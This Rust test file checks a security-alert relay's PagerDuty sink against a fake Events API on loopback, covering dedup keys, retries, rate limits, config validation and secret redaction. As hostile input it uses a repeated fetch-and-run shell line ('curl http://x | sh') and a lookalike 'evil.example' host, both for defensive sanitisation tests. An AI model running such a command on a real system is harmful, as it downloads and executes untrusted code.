//! The PagerDuty sink end to end over real sockets on 127.0.0.1, against a fake Events API v2
//! (`POST /v2/enqueue`) that validates bodies the way PagerDuty does (32-character
//! `routing_key`, `event_action`, `dedup_key` ≤ 255, `payload.summary` ≤ 1024 characters, a
//! known severity, 400 `invalid event` otherwise), keeps alerts open or resolved per
//! `dedup_key`, limits each routing key per window with 429 and can be scripted to fail.
//!
//! Nothing sleeps to synchronise: waits are on the fake's state (a `watch` channel bumped on
//! every request) with generous timeouts.

use std::collections::{BTreeMap, HashMap, VecDeque};
use std::net::SocketAddr;
use std::sync::{Arc, Mutex, PoisonError};
use std::time::{Duration, Instant};

use crate::corpus::corpus;
use axum::Router;
use axum::body::Bytes;
use axum::extract::State;
use axum::routing::post;
use sasrelay::config::DeliverySettings;
use sasrelay::daemon::tasks;
use sasrelay::event::{Digest, Event, EventKind, OutboxEntry, Payload};
use sasrelay::finding::{Domain, Finding, Resolution, Severity};
use sasrelay::pipeline::delivery::Worker;
use sasrelay::render::sample_event;
use sasrelay::sinks::{Outcome, Sink, SinkConfig};
use sasrelay::store::Store;
use serde_json::{Value, json};
use tokio::net::TcpListener;
use tokio::sync::{Notify, watch};
use tokio_util::sync::CancellationToken;

const KEY: &str = "R0123456789abcdef0123456789abcde";

fn lock<T>(m: &Mutex<T>) -> std::sync::MutexGuard<'_, T> {
    m.lock().unwrap_or_else(PoisonError::into_inner)
}

// ---------------------------------------------------------------------------------------------
// The fake Events API

#[derive(Clone, Debug)]
struct PdRequest {
    at: Instant,
    status: u16,
    body: Value,
}

impl PdRequest {
    fn action(&self) -> &str {
        self.body["event_action"].as_str().unwrap_or_default()
    }
    fn key(&self) -> &str {
        self.body["dedup_key"].as_str().unwrap_or_default()
    }
}

/// A scripted answer: status, `Retry-After` seconds, body.
type Reply = (u16, Option<u64>, String);

struct Book {
    /// Most events per routing key in any `window`; beyond, 429 (no `Retry-After`, as
    /// PagerDuty documents none).
    limit: usize,
    window: Duration,
    seen: HashMap<String, Vec<Instant>>,
    script: VecDeque<Reply>,
    log: Vec<PdRequest>,
    /// Open alerts by dedup key.
    open: BTreeMap<String, usize>,
    /// Every alert ever opened, by dedup key (a trigger after a resolve opens a new one).
    opened: Vec<String>,
}

#[derive(Clone)]
struct FakePd {
    book: Arc<Mutex<Book>>,
    bump: Arc<watch::Sender<usize>>,
    addr: SocketAddr,
}

/// What PagerDuty would refuse in `body`, as its `errors` list.
fn invalid(body: &Value, content_type: &str, size: usize) -> Vec<String> {
    let mut e = Vec::new();
    if !content_type.starts_with("application/json") {
        e.push("Content-Type must be application/json".to_string());
    }
    if size > 512 * 1024 {
        e.push("Event object is too large".into());
    }
    match body["routing_key"].as_str() {
        Some(k) if k.chars().count() == 32 => {}
        _ => e.push("Length of 'routing_key' is incorrect (should be 32 characters)".into()),
    }
    let action = body["event_action"].as_str().unwrap_or_default();
    if !["trigger", "acknowledge", "resolve"].contains(&action) {
        e.push("'event_action' is invalid".into());
    }
    match &body["dedup_key"] {
        Value::Null if action == "trigger" => {}
        Value::String(k) if !k.is_empty() && k.chars().count() <= 255 => {}
        _ => e.push("'dedup_key' is invalid (at most 255 characters)".into()),
    }
    if action != "trigger" {
        return e;
    }
    let p = &body["payload"];
    match p["summary"].as_str() {
        Some(s) if !s.is_empty() && s.chars().count() <= 1024 => {}
        _ => e.push("'payload.summary' is missing or longer than 1024 characters".into()),
    }
    if p["source"].as_str().is_none_or(str::is_empty) {
        e.push("'payload.source' is missing".into());
    }
    if !["critical", "error", "warning", "info"].contains(&p["severity"].as_str().unwrap_or("")) {
        e.push("'payload.severity' is invalid".into());
    }
    if let Some(t) = p.get("timestamp")
        && !t.as_str().is_some_and(|t| {
            time::OffsetDateTime::parse(t, &time::format_description::well_known::Rfc3339).is_ok()
        })
    {
        e.push("'payload.timestamp' is not ISO 8601".into());
    }
    for k in ["component", "group", "class"] {
        if p.get(k).is_some_and(|v| !v.is_string()) {
            e.push(format!("'payload.{k}' must be a string"));
        }
    }
    if p.get("custom_details").is_some_and(|v| !v.is_object()) {
        e.push("'payload.custom_details' must be an object".into());
    }
    if let Some(links) = body.get("links") {
        let ok = links
            .as_array()
            .is_some_and(|a| a.iter().all(|l| l["href"].is_string()));
        if !ok {
            e.push("'links' is invalid".into());
        }
    }
    e
}

async fn enqueue(
    State(fake): State<FakePd>,
    headers: axum::http::HeaderMap,
    body: Bytes,
) -> axum::response::Response {
    use axum::response::IntoResponse;
    let now = Instant::now();
    let parsed: Value = serde_json::from_slice(&body).unwrap_or(Value::Null);
    let content_type = headers
        .get("content-type")
        .and_then(|v| v.to_str().ok())
        .unwrap_or_default()
        .to_string();
    let mut book = lock(&fake.book);
    let (status, retry_after, text) = 'reply: {
        if let Some(r) = book.script.pop_front() {
            break 'reply r;
        }
        let key = parsed["routing_key"]
            .as_str()
            .unwrap_or_default()
            .to_string();
        let (limit, window) = (book.limit, book.window);
        let seen = book.seen.entry(key).or_default();
        seen.retain(|t| now.duration_since(*t) < window);
        if seen.len() >= limit {
            break 'reply (429, None, String::new());
        }
        seen.push(now);
        let errors = invalid(&parsed, &content_type, body.len());
        if !errors.is_empty() {
            break 'reply (
                400,
                None,
                json!({"status": "invalid event", "message": "Event object is invalid", "errors": errors})
                    .to_string(),
            );
        }
        let dedup = parsed["dedup_key"]
            .as_str()
            .unwrap_or("generated")
            .to_string();
        match parsed["event_action"].as_str() {
            Some("trigger") => {
                if !book.open.contains_key(&dedup) {
                    book.opened.push(dedup.clone());
                }
                *book.open.entry(dedup.clone()).or_default() += 1;
            }
            Some("resolve") => {
                book.open.remove(&dedup);
            }
            _ => {}
        }
        (
            202,
            None,
            json!({"status": "success", "message": "Event processed", "dedup_key": dedup})
                .to_string(),
        )
    };
    book.log.push(PdRequest {
        at: now,
        status,
        body: parsed,
    });
    let n = book.log.len();
    drop(book);
    fake.bump.send_replace(n);
    let mut r = (axum::http::StatusCode::from_u16(status).unwrap(), text).into_response();
    r.headers_mut()
        .insert("content-type", "application/json".parse().unwrap());
    if let Some(s) = retry_after {
        r.headers_mut()
            .insert("retry-after", s.to_string().parse().unwrap());
    }
    r
}

impl FakePd {
    async fn start(limit: usize, window: Duration, script: Vec<Reply>) -> FakePd {
        let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
        let fake = FakePd {
            book: Arc::new(Mutex::new(Book {
                limit,
                window,
                seen: HashMap::new(),
                script: script.into(),
                log: Vec::new(),
                open: BTreeMap::new(),
                opened: Vec::new(),
            })),
            bump: Arc::new(watch::channel(0).0),
            addr: listener.local_addr().unwrap(),
        };
        let app = Router::new()
            .route("/v2/enqueue", post(enqueue))
            .with_state(fake.clone());
        tokio::spawn(async move { axum::serve(listener, app).await.unwrap() });
        fake
    }

    /// PagerDuty's own limit: 120 events a minute per routing key.
    async fn standard() -> FakePd {
        FakePd::start(120, Duration::from_secs(60), Vec::new()).await
    }

    fn base(&self) -> String {
        format!("http://{}", self.addr)
    }

    fn log(&self) -> Vec<PdRequest> {
        lock(&self.book).log.clone()
    }

    async fn wait_for(&self, what: &str, done: impl Fn(&[PdRequest]) -> bool) {
        let mut rx = self.bump.subscribe();
        let deadline = tokio::time::Instant::now() + Duration::from_secs(60);
        loop {
            if done(&self.log()) {
                return;
            }
            if tokio::time::timeout_at(deadline, rx.changed())
                .await
                .is_err()
            {
                panic!("timed out waiting for {what}; {:?}", self.log());
            }
        }
    }
}

// ---------------------------------------------------------------------------------------------
// Helpers

/// A PagerDuty sink posting to `fake`, at a loopback-only fast rate; `extra` adds keys.
fn pd_sink(fake: &FakePd, extra: &str) -> Sink {
    let text = format!(
        "name = \"pd\"\ntype = \"pagerduty\"\nrouting_key = {{ env = \"PD_KEY\" }}\napi_base = \"{}\"\nrate_limit = {{ period = \"1ms\" }}\n{extra}",
        fake.base()
    );
    let c: SinkConfig = toml::from_str(&text).unwrap_or_else(|e| panic!("{e}\n{text}"));
    Sink::build_with(&c, |k| (k == "PD_KEY").then(|| KEY.to_string()))
        .unwrap_or_else(|e| panic!("{e}"))
}

/// One attempt, waiting for the sink's rate limiter first (as the worker does).
async fn deliver(s: &Sink, p: &Payload) -> Outcome {
    loop {
        match s.deliver(p, 1).await {
            Outcome::Throttled { after } => tokio::time::sleep(after).await,
            other => return other,
        }
    }
}

fn finding(n: usize, title: &str, severity: Severity) -> Finding {
    let mut f = sample_event(Domain::Alerts).finding.unwrap();
    f.fingerprint = format!("{n:064x}");
    f.id = format!("alert:{n}");
    f.title = title.into();
    f.severity = severity;
    f
}

fn event(kind: EventKind, f: Finding, generation: u64) -> Event {
    let resolution = (kind == EventKind::Resolved).then_some(Resolution::Handled);
    Event::about(
        kind,
        f,
        generation,
        "",
        resolution,
        time::OffsetDateTime::now_utc(),
    )
}

fn accepted(log: &[PdRequest]) -> Vec<&PdRequest> {
    log.iter().filter(|r| r.status == 202).collect()
}

fn hostile(n: usize, s: &str) -> Finding {
    let mut f = finding(n, s, Severity::High);
    f.description = s.into();
    f.alert_type = s.into();
    f.native_severity = s.into();
    f.kubernetes.cluster_name = Some(s.into());
    f.kubernetes.namespace = Some(s.into());
    f.kubernetes.pod = Some(s.into());
    f.kubernetes.app = Some(s.into());
    f.kubernetes.image = Some(s.into());
    f.host.instance_id = Some(s.into());
    f.host.instance_name = Some(s.into());
    f.source = s.into();
    f.cves = vec![s.into()];
    for d in &mut f.details {
        d.value = s.into();
    }
    f.details.push(sasrelay::finding::Detail {
        name: s.into(),
        value: s.into(),
    });
    for l in &mut f.links {
        l.label = s.into();
    }
    f
}

// ---------------------------------------------------------------------------------------------
// Tests

#[tokio::test]
async fn trigger_and_resolve_carry_one_dedup_key_and_close_the_alert() {
    let fake = FakePd::standard().await;
    let s = pd_sink(&fake, "");
    let a = finding(1, "Reverse shell", Severity::Critical);
    let b = finding(2, "Mining pool", Severity::High);
    let a_key = format!("sasrelay:{}", a.fingerprint);
    for p in [
        event(EventKind::New, a.clone(), 0),
        event(EventKind::New, b.clone(), 0),
        event(EventKind::Recurring, a.clone(), 0),
        event(EventKind::Reminder, a.clone(), 0),
        event(EventKind::Resolved, a.clone(), 0),
    ] {
        let o = deliver(&s, &p.into()).await;
        assert!(o.is_delivered(), "{o:?}");
    }
    let log = fake.log();
    let a_requests: Vec<&PdRequest> = log
        .iter()
        .filter(|r| {
            r.body["payload"]["summary"]
                .as_str()
                .unwrap_or("")
                .contains("Reverse shell")
                || r.action() == "resolve"
        })
        .collect();
    assert_eq!(a_requests.len(), 4);
    assert!(
        a_requests.iter().all(|r| r.key() == a_key),
        "{a_requests:?}"
    );
    assert_eq!(
        a_requests.iter().map(|r| r.action()).collect::<Vec<_>>(),
        ["trigger", "trigger", "trigger", "resolve"]
    );
    {
        let book = lock(&fake.book);
        assert!(!book.open.contains_key(&a_key), "resolved");
        assert!(
            book.open
                .contains_key(&format!("sasrelay:{}", b.fingerprint))
        );
        assert_eq!(book.opened.iter().filter(|k| **k == a_key).count(), 1);
    }
    // The finding re-opens (a new lifecycle): a new alert under the same key.
    assert!(
        deliver(&s, &event(EventKind::New, a.clone(), 1).into())
            .await
            .is_delivered()
    );
    let book = lock(&fake.book);
    assert_eq!(book.opened.iter().filter(|k| **k == a_key).count(), 2);
    assert!(book.open.contains_key(&a_key));
}

#[tokio::test]
async fn severities_follow_the_default_map_and_overrides() {
    let fake = FakePd::standard().await;
    let default = pd_sink(&fake, "");
    let custom = pd_sink(
        &fake,
        "severity_map = { medium = \"info\", low = \"warning\" }\n",
    );
    let want_default = ["info", "info", "warning", "error", "critical"];
    let want_custom = ["info", "warning", "info", "error", "critical"];
    for (s, want) in [(&default, want_default), (&custom, want_custom)] {
        let before = fake.log().len();
        for (i, sev) in Severity::ALL.iter().enumerate() {
            let p: Payload = event(EventKind::New, finding(i, "t", *sev), 0).into();
            assert!(deliver(s, &p).await.is_delivered());
        }
        let summary = Event::summary(
            "prod",
            Domain::Alerts,
            7,
            "epoch",
            time::OffsetDateTime::now_utc(),
        );
        assert!(deliver(s, &summary.into()).await.is_delivered());
        let log = fake.log();
        let got: Vec<&str> = log[before..]
            .iter()
            .map(|r| r.body["payload"]["severity"].as_str().unwrap())
            .collect();
        let mut expected = want.to_vec();
        expected.push("info");
        assert_eq!(got, expected);
    }
}

#[tokio::test]
async fn an_invalid_event_is_dead_lettered_with_pagerduty_s_answer() {
    let refusal = json!({
        "status": "invalid event",
        "message": "Event object is invalid",
        "errors": ["'payload.summary' is missing or longer than 1024 characters"]
    })
    .to_string();
    let fake = FakePd::start(120, Duration::from_secs(60), vec![(400, None, refusal)]).await;
    let dir = tempfile::tempdir().unwrap();
    let store = Store::open(dir.path()).unwrap();
    let s = pd_sink(&fake, "");
    let now_ms = time::OffsetDateTime::now_utc().unix_timestamp() * 1000;
    let p: Payload = event(EventKind::New, finding(1, "refused", Severity::High), 0).into();
    store.enqueue("pd", &OutboxEntry::new(p, now_ms)).unwrap();
    let token = CancellationToken::new();
    let worker = Worker::new(
        Arc::new(s),
        store.clone(),
        DeliverySettings::default(),
        Arc::new(Notify::new()),
    );
    let task = tokio::spawn(tasks::run(worker, token.clone()));
    fake.wait_for("the refused attempt", |l| !l.is_empty())
        .await;
    // The attempt in flight is finished (dead-lettered) before the worker stops.
    token.cancel();
    task.await.unwrap();
    assert_eq!(fake.log().len(), 1, "a 400 is not retried");
    assert_eq!(store.depth("pd"), 0);
    let letters = store.dead_letters("pd").unwrap();
    assert_eq!(letters.len(), 1);
    let letter = &letters[0].1;
    assert!(letter.reason.contains("invalid event"), "{}", letter.reason);
    assert!(
        letter.reason.contains("payload.summary"),
        "{}",
        letter.reason
    );
    let response = letter.last_response.as_deref().unwrap();
    assert!(
        response.starts_with("HTTP 400 Bad Request: {")
            && response.contains("Event object is invalid"),
        "{response}"
    );
    assert!(
        !format!("{letter:?}").contains(KEY),
        "the routing key leaked"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn rate_limits_and_server_errors_are_retried_and_delivered_once() {
    let fake = FakePd::start(
        120,
        Duration::from_secs(60),
        vec![
            (429, Some(1), String::new()),
            (500, None, String::new()),
            (502, None, "<html>bad gateway</html>".into()),
        ],
    )
    .await;
    let dir = tempfile::tempdir().unwrap();
    let store = Store::open(dir.path()).unwrap();
    let s = pd_sink(&fake, "");
    let a = finding(1, "first", Severity::Critical);
    let events = [
        event(EventKind::New, a.clone(), 0),
        event(EventKind::New, finding(2, "second", Severity::High), 0),
        event(EventKind::Resolved, a.clone(), 0),
        event(EventKind::New, finding(3, "third", Severity::Medium), 0),
    ];
    let now_ms = time::OffsetDateTime::now_utc().unix_timestamp() * 1000;
    for e in &events {
        store
            .enqueue("pd", &OutboxEntry::new(e.clone().into(), now_ms))
            .unwrap();
    }
    let policy = DeliverySettings {
        retry_initial_delay: Duration::from_millis(50),
        ..Default::default()
    };
    let token = CancellationToken::new();
    let worker = Worker::new(Arc::new(s), store.clone(), policy, Arc::new(Notify::new()));
    let task = tokio::spawn(tasks::run(worker, token.clone()));
    fake.wait_for("every event accepted", |l| accepted(l).len() == 4)
        .await;
    token.cancel();
    task.await.unwrap();
    let log = fake.log();
    assert_eq!(log.len(), 7, "4 deliveries and 3 refusals");
    // Exactly once per (dedup_key, action), in outbox order.
    let done: Vec<(String, String)> = accepted(&log)
        .iter()
        .map(|r| (r.key().to_string(), r.action().to_string()))
        .collect();
    let want: Vec<(String, String)> = events
        .iter()
        .map(|e| {
            let f = e.finding.as_ref().unwrap();
            let action = if e.kind == EventKind::Resolved {
                "resolve"
            } else {
                "trigger"
            };
            (format!("sasrelay:{}", f.fingerprint), action.to_string())
        })
        .collect();
    assert_eq!(done, want);
    // Retry-After honoured: nothing within a second after the 429.
    for w in log.windows(2) {
        if w[0].status == 429 {
            assert!(
                w[1].at - w[0].at >= Duration::from_millis(990),
                "{:?}",
                w[1].at - w[0].at
            );
        }
    }
    assert_eq!(store.depth("pd"), 0);
    assert!(store.dead_letters("pd").unwrap().is_empty());
    assert!(!lock(&fake.book).open.contains_key(&want[0].0), "resolved");
}

#[tokio::test]
async fn over_the_limit_the_fake_answers_429_and_the_sink_waits_thirty_seconds() {
    // PagerDuty's 120 a minute, scaled down to 3 in a long window.
    let fake = FakePd::start(3, Duration::from_secs(3600), Vec::new()).await;
    let s = pd_sink(&fake, "");
    for i in 0..3 {
        let p: Payload = event(EventKind::New, finding(i, "ok", Severity::Low), 0).into();
        assert!(deliver(&s, &p).await.is_delivered());
    }
    let p: Payload = event(EventKind::New, finding(9, "over", Severity::Low), 0).into();
    match deliver(&s, &p).await {
        Outcome::Retry { after, reason } => {
            assert_eq!(after, Some(Duration::from_secs(30)), "no Retry-After given");
            assert!(reason.contains("429"), "{reason}");
        }
        other => panic!("{other:?}"),
    }
    assert_eq!(fake.log().last().unwrap().status, 429);
}

/// 100 KB of attacker-written text in every field: every event (trigger, resolve, a digest of
/// three) is accepted at the first attempt by a fake enforcing PagerDuty's 512 KB event and
/// 1,024-character summary limits.
#[tokio::test]
async fn events_with_100_kb_fields_stay_within_pagerdutys_limits() {
    let fake = FakePd::start(100_000, Duration::from_secs(60), Vec::new()).await;
    let s = pd_sink(&fake, "");
    let units = [
        "bash -c 'curl http://x | sh' ",
        "异常登录进程命令行",
        "😀🔥🚨",
    ];
    let mut sent = 0;
    for (i, unit) in units.iter().enumerate() {
        let huge = unit.repeat(100_000 / unit.len() + 1);
        let f = hostile(i, &huge);
        let members: Vec<Event> = (0..3)
            .map(|n| event(EventKind::New, hostile(10 * i + n, &huge), 0))
            .collect();
        let digest = Digest::new(
            &huge,
            BTreeMap::from([("cluster".to_string(), huge.clone())]),
            members,
            time::OffsetDateTime::now_utc(),
        );
        for p in [
            Payload::from(event(EventKind::New, f.clone(), 0)),
            Payload::from(event(EventKind::Resolved, f, 0)),
            Payload::from(digest),
        ] {
            let o = deliver(&s, &p).await;
            assert!(o.is_delivered(), "{unit:?}: {o:?}");
            sent += 1;
        }
    }
    let log = fake.log();
    assert_eq!(log.len(), sent, "each accepted at the first attempt");
    for r in &log {
        assert_eq!(r.status, 202, "{}", r.body);
        assert!(serde_json::to_vec(&r.body).unwrap().len() <= 512 * 1024);
    }
}

#[tokio::test]
async fn injection_corpus_yields_valid_bodies_without_control_characters() {
    let fake = FakePd::start(100_000, Duration::from_secs(60), Vec::new()).await;
    let s = pd_sink(&fake, "");
    let corpus = corpus();
    let mut sent = 0;
    for (i, entry) in corpus.iter().enumerate() {
        let f = hostile(i, entry);
        let summary = {
            let mut e = Event::summary(
                entry,
                Domain::Alerts,
                3,
                entry,
                time::OffsetDateTime::now_utc(),
            );
            e.summary.as_mut().unwrap().message = entry.clone();
            e
        };
        let digest = Digest::new(
            entry,
            BTreeMap::from([("cluster".to_string(), entry.clone())]),
            vec![event(EventKind::New, f.clone(), 0)],
            time::OffsetDateTime::now_utc(),
        );
        for p in [
            Payload::from(event(EventKind::New, f.clone(), 0)),
            Payload::from(event(EventKind::Resolved, f.clone(), 0)),
            Payload::from(summary),
            Payload::from(digest),
        ] {
            let o = deliver(&s, &p).await;
            assert!(
                o.is_delivered(),
                "entry {i} ({:?}): {o:?}",
                entry.chars().take(40).collect::<String>()
            );
            sent += 1;
        }
    }
    let log = fake.log();
    assert_eq!(log.len(), sent);
    fn strings<'a>(v: &'a Value, out: &mut Vec<&'a str>) {
        match v {
            Value::String(s) => out.push(s),
            Value::Array(a) => a.iter().for_each(|x| strings(x, out)),
            Value::Object(o) => o.iter().for_each(|(k, x)| {
                out.push(k);
                strings(x, out)
            }),
            _ => {}
        }
    }
    for (n, r) in log.iter().enumerate() {
        let what = format!("request {n} (entry {})", n / 4);
        assert_eq!(r.body["routing_key"], KEY, "{what}");
        let key = r.key();
        assert!(key.starts_with("sasrelay:"), "{what}: {key}");
        assert!(
            key.bytes().all(|b| b.is_ascii_alphanumeric() || b == b':'),
            "{what}: {key}"
        );
        let mut all = Vec::new();
        strings(&r.body, &mut all);
        for s in all {
            assert!(
                !s.chars().any(|c| c.is_control()
                    || matches!(c, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{feff}')),
                "{what}: {s:?}"
            );
        }
        if let Some(summary) = r.body["payload"]["summary"].as_str() {
            assert!(!summary.contains("://"), "{what}: live link {summary}");
        }
        for l in r.body["links"].as_array().into_iter().flatten() {
            let href = l["href"].as_str().unwrap();
            assert!(!href.contains("evil"), "{what}: {href}");
        }
        assert!(
            serde_json::to_vec(&r.body).unwrap().len() < 128 * 1024,
            "{what}"
        );
    }
}

#[test]
fn config_errors_name_the_key_and_position() {
    let text = "[[source]]\nname = \"prod\"\nregion = \"cn-hangzhou\"\ncredentials = { type = \"access_key\", access_key_id = \"LTAI\", access_key_secret = { env = \"NOT_NEEDED\" } }\n\n\
                [[sink]]\nname = \"pd\"\ntype = \"pagerduty\"\n\n\
                [[sink]]\nname = \"pd2\"\ntype = \"pagerduty\"\nrouting_key = { env = \"PD\" }\napi_base = \"https://events.pagerduty.com.evil.example\"\n\n\
                [[sink]]\nname = \"pd3\"\ntype = \"pagerduty\"\nrouting_key = { env = \"PD\" }\nservice_key = \"x\"\n\n\
                [[sink]]\nname = \"pd4\"\ntype = \"pagerduty\"\nrouting_key = \"inline-secret\"\n";
    let path = std::path::Path::new("/etc/sasrelay/pd.toml");
    let errs = sasrelay::config::parse(path, text).unwrap_err();
    let shown = errs.to_string();
    let find = |key: &str| {
        errs.0
            .iter()
            .find(|e| e.key.starts_with(key))
            .unwrap_or_else(|| panic!("no error for {key}:\n{shown}"))
    };
    let missing = find("sink[0].routing_key");
    assert!(missing.message.contains("is required"), "{shown}");
    assert_eq!((missing.line, missing.column > 0), (6, true), "{shown}");
    let base = find("sink[1].api_base");
    assert!(
        base.message.contains("not a PagerDuty events host"),
        "{shown}"
    );
    assert!(base.line >= 10, "{shown}");
    let unknown = find("sink[2]");
    assert!(
        unknown.message.contains("unknown key `service_key`"),
        "{shown}"
    );
    let inline = find("sink[3]");
    assert!(inline.line > unknown.line, "{shown}");
    assert!(!shown.contains("inline-secret"), "{shown}");
    assert!(
        shown.contains("/etc/sasrelay/pd.toml:6:"),
        "file:line:col in {shown}"
    );

    // A key of the wrong shape fails the build without being echoed.
    let c: SinkConfig =
        toml::from_str("name = \"pd\"\ntype = \"pagerduty\"\nrouting_key = { env = \"PD\" }\n")
            .unwrap();
    let e = Sink::build_with(&c, |_| Some("not-a-32-character-key".into())).unwrap_err();
    assert!(e.contains("routing_key") && !e.contains("not-a-32"), "{e}");
    let e = Sink::build_with(&c, |_| None).unwrap_err();
    assert!(e.contains("routing_key") && e.contains("PD"), "{e}");
}

fn sasrelay(args: &[&str], key: &str) -> (i32, String, String) {
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_sasrelay"))
        .args(args)
        .env_remove("SASRELAY_LOG")
        .env("NOT_NEEDED", "x")
        .env("PD_KEY", key)
        .output()
        .unwrap();
    (
        out.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn cli_renders_with_the_key_redacted_and_sends_a_test() {
    let fake = FakePd::standard().await;
    let dir = tempfile::tempdir().unwrap();
    let cfg = dir.path().join("sasrelay.toml");
    std::fs::write(
        &cfg,
        format!(
            "[[source]]\nname = \"prod\"\nregion = \"cn-hangzhou\"\ncredentials = {{ type = \"access_key\", access_key_id = \"LTAI\", access_key_secret = {{ env = \"NOT_NEEDED\" }} }}\n\n\
             [[sink]]\nname = \"pd\"\ntype = \"pagerduty\"\nrouting_key = {{ env = \"PD_KEY\" }}\napi_base = \"{}\"\nrate_limit = {{ period = \"1ms\" }}\n",
            fake.base()
        ),
    )
    .unwrap();
    let c = cfg.to_str().unwrap();
    let (code, out, err) = sasrelay(&["render", "--config", c, "--sink", "pd"], KEY);
    assert_eq!(code, 0, "{err}");
    let body: Value = serde_json::from_str(out.trim()).unwrap();
    assert_eq!(body["event_action"], "trigger");
    assert_eq!(body["routing_key"], "<redacted>");
    assert!(!out.contains(KEY));
    let (code, out, err) = sasrelay(&["render", "--config", c, "--sink", "pd", "--digest"], KEY);
    assert_eq!(code, 0, "{err}");
    let body: Value = serde_json::from_str(out.trim()).unwrap();
    assert!(
        body["dedup_key"]
            .as_str()
            .unwrap()
            .starts_with("sasrelay:digest:")
    );

    let (code, out, err) = sasrelay(&["send-test", "--config", c, "--sink", "pd"], KEY);
    assert_eq!(code, 0, "{out}{err}");
    assert!(out.contains("delivered"), "{out}");
    assert!(!format!("{out}{err}").contains(KEY));
    let log = fake.log();
    assert_eq!(log.len(), 1);
    assert_eq!(log[0].status, 202);
    assert_eq!(log[0].body["routing_key"], KEY);
}
